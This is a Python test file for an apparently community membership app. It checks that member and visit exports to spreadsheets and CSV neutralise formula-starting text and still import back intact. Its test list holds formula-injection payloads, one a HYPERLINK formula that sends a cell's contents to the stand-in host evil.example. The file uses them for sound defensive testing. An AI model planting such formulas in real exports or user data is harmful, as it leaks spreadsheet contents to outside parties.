"""Nothing a user typed reaches a spreadsheet as a formula, and exports still import back."""
from __future__ import annotations

import csv
import io
import uuid

from openpyxl import load_workbook
from sqlalchemy import select

from core.members import guess_mapping, plan_import, read_table
from core.models import Member
from core.reports.xlsx import FORMULA_STARTS, neutralise, restore
from tests.helpers.web import add_user

NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_neutralise_and_restore_are_inverse():
    for text in NASTY + ["普通的话", "'引号开头", "''=x", "", "3-2"]:
        assert restore(neutralise(text)) == text
        assert not str(neutralise(text)).startswith(FORMULA_STARTS)
    assert neutralise(-5) == -5, "numbers stay numbers"


def formula_cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell.coordinate for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def test_member_names_and_visit_notes_export_as_text_and_round_trip(app, make_app, world, tmp_path):
    admin = world["admin"]
    with app.extensions["xiangyin.db"].session() as session:
        for n, text in enumerate(NASTY[:4]):
            session.add(Member(name=text.replace(" ", ""), phone=f"1380000010{n}", notes=text))
        session.commit()
    member_id = world["ids"]["member_id"]
    sent = world["paired"].post(f"/visits/new/{member_id}", {
        "client_key": str(uuid.uuid4()), "visited_at": "2026-11-27T09:00", "delivered": "nothing",
        "feedback": NASTY[0], "needs": "=1+2"})
    assert sent.status_code == 303
    for url in ("/members/export.xlsx", "/visits/export.xlsx?quarter=2026Q4", "/stats/plays.xlsx"):
        data = admin.get(url).data
        assert formula_cells(data) == [], url
    visits = load_workbook(io.BytesIO(admin.get("/visits/export.xlsx?quarter=2026Q4").data)).active
    assert any(cell == "'" + NASTY[0] for row in visits.iter_rows(values_only=True) for cell in row)
    roll_csv = admin.get("/members/export.csv").get_data(as_text=True)
    for row in csv.reader(io.StringIO(roll_csv.lstrip("\ufeff"))):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
    exported = admin.get("/members/export.xlsx").data
    other = make_app(DATA_DIR=str(tmp_path / "fresh"))
    add_user(other, "admin9", "admin")
    for filename, data in (("名册.xlsx", exported), ("名册.csv", roll_csv.encode("utf-8"))):
        table = read_table(filename, data)
        with other.extensions["xiangyin.db"].session() as session:
            plan = plan_import(session, table, guess_mapping(table.headers))
            assert plan.errors == []
            imported = {(m["name"], m["notes"]) for m in plan.members}
        with app.extensions["xiangyin.db"].session() as session:
            original = {(m.name, m.notes) for m in session.scalars(select(Member))}
        assert imported == original, filename
